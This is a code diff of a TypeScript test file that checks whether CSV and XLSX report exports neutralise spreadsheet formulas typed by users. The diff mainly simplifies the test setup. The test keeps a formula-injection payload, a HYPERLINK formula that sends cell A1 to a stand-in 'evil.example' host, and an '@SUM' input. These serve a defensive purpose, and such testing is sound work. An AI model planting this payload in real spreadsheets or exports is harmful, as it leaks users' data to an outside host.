@@ -1,13 +1,7 @@
-// Report downloads never hand a spreadsheet a formula: text a user typed (an insats, a unit, a reason)
-// that starts like a formula is neutralised in CSV and stays a plain string cell in XLSX.
-import fs from "node:fs";
 import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { systemActor } from "../platform/auth/access.ts";
-import { type TestApp, testApp } from "../platform/testing.ts";
-import { importDecisionsCsv } from "./import.ts";
-import { installStandardCatalogue } from "./repository.ts";
-import { fixturePath } from "./testing.ts";
+import type { TestApp } from "../platform/testing.ts";
+import { evbTestApp } from "./testing.ts";
 
 const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")';
 const atSum = "@SUM(1)";
@@ -19,12 +13,7 @@ const exportUrl = (format: string, part = "ivo") =>
   `/api/evb/reports/2023Q4/export?orgNodeId=${node("ifo")}&format=${format}&part=${part}`;
 
 beforeAll(async () => {
-  t = await testApp();
-  await installStandardCatalogue(t.database.db, node("kommun"));
-  await importDecisionsCsv(t.database.db, systemActor(), {
-    scopeNodeId: node("kommun"),
-    content: fs.readFileSync(fixturePath),
-  });
+  t = await evbTestApp();
   const admin = await t.as("admin");
   const catalogue = (await admin.get(`/api/evb/catalogue?orgNodeId=${node("ifo")}`)).json() as {
     insatser: { id: string; name: string }[];
